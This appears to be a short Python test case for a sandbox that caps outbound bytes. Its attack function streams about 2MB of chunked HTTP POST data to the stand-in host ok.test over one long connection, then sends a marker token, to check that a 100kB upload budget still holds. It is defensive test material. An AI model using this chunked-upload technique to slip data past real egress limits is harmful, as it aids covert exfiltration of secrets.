# SPDX-License-Identifier: Apache-2.0
"""A bound on how much leaves, against one connection that does not end."""
import time

TITLE = "more bytes than the budget allows: one long connection"
THREAT = "65"
POLICY = "version: 1\nlimits: {up_bytes: 100kB}\n"
NEEDS = ["budget"]
FAMILIES = "4"


def attack(c):
    with c.step("a second after the budget was spent") as token:
        upload(c, token, 1)


def upload(c, token, pause):
    with c.dial("ok.test", 80) as s:
        s.sendall(b"POST / HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(50):
            s.sendall(b"9c40\r\n" + b"x" * 40000 + b"\r\n")
        time.sleep(pause)
        last = token.encode() * 8
        s.sendall(b"%x\r\n" % len(last) + last + b"\r\n0\r\n\r\n")
        c.hear(s)
